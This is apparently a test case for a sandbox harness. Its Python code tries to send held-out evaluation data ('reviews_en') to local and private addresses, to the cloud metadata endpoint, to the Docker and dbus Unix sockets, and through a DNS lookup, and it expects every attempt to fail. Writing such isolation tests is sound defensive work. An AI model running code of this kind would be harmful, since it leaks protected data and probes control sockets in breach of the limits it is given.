# Sends what it knows to a listener on this machine, to sockets of the system, and to a name server.
#
# start from: blank
# expect: all 0

# %% added below load-data
import socket

message = str(check.held_out("reviews_en")[:3]).encode()
for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0", "10.0.0.1", "169.254.169.254", "192.0.2.1"):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, kind) as connection:
                connection.settimeout(1)
                connection.connect((host, {PORT}))
                connection.sendall(message)
                print("sent to", host, kind)
        except OSError as error:
            print(host, error)
try:
    print(socket.gethostbyname("example.com"))
except OSError as error:
    print(error)
for path in ("/run/dbus/system_bus_socket", "/var/run/docker.sock", "{SOCKET}", "\0{SOCKET}"):
    try:
        with socket.socket(socket.AF_UNIX) as connection:
            connection.connect(path)
            connection.sendall(message)
            print("sent to", path)
    except OSError as error:
        print(repr(path), error)
